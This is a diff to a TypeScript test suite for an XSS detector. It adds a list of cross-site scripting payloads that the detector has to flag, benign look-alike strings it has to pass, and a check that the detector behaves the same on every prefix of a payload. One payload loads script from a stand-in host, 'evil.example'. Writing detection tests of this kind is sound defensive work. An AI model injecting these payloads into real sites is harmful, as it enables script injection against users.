@@ -8,7 +8,7 @@ const xss = (text: string): boolean => {
   return detectScript(buf, 1, buf.length - 3);
 };
 
-test.each([
+const attacks = [
   // Elements, in all the ways to write them.
   '<script>alert(1)</script>',
   '<SCRIPT/x>',
@@ -70,7 +70,23 @@ test.each([
   "' [console.log(1)]//",
   `\${$.getScript('//evil.example')}`,
   '<a filter=alpha(x)>',
-])('%j is script', (text) => {
+  '<set to="javascript:x">',
+  `\${location=name}`,
+  `'-"a"*alert(1)-'`,
+  "'-$(name)-'",
+  "');(alert)(1)//",
+  "'-a(-1)-'",
+  "'-!--a+alert(1)-'",
+  "';/*\n,*/alert(1)//",
+  "x\\' y';alert(1)//",
+  '<x srcdoc=y>',
+  '<x xmlns:y="http://a.b/">',
+  '<x xlink:type=simple>',
+  '<!-- -\0-><script>',
+  '<a href= javascript:x>',
+];
+
+test.each(attacks)('%j is script', (text) => {
   expect(xss(text)).toBe(true);
 });
 
@@ -103,6 +119,12 @@ test.each([
   "'[data-x(1)]'",
   `\${$.bold(command)} \${x:-$(pwd)}`,
   'filter=price',
+  "the users' - see man(1) - 'own'",
+  "x'=name//",
+  "x']--//",
+  "c'++//=",
+  "'(new Date)//",
+  '<a href="da ta:x">',
 ])('%j is none', (text) => {
   expect(xss(text)).toBe(false);
 });
@@ -110,6 +132,16 @@ test.each([
 test('script is found anywhere in a long text', () => {
   for (const at of [0, 4080, 4096, 10_000, 50_000]) {
     expect(xss(`${'\xe9 '.repeat(at)}<script>alert(1)</script>${'x'.repeat(3000)}`)).toBe(true);
+  }
+});
+
+test('a value ends where it ends, whatever goes on behind it', () => {
+  for (const attack of attacks) {
+    const whole = Buffer.from(attack, 'latin1');
+    for (let end = 1; end <= whole.length; end++) {
+      const alone = Uint8Array.from(whole.subarray(0, end));
+      expect(detectScript(whole, 0, end), `${end} bytes of ${attack}`).toBe(detectScript(alone, 0, end));
+    }
   }
 });
 
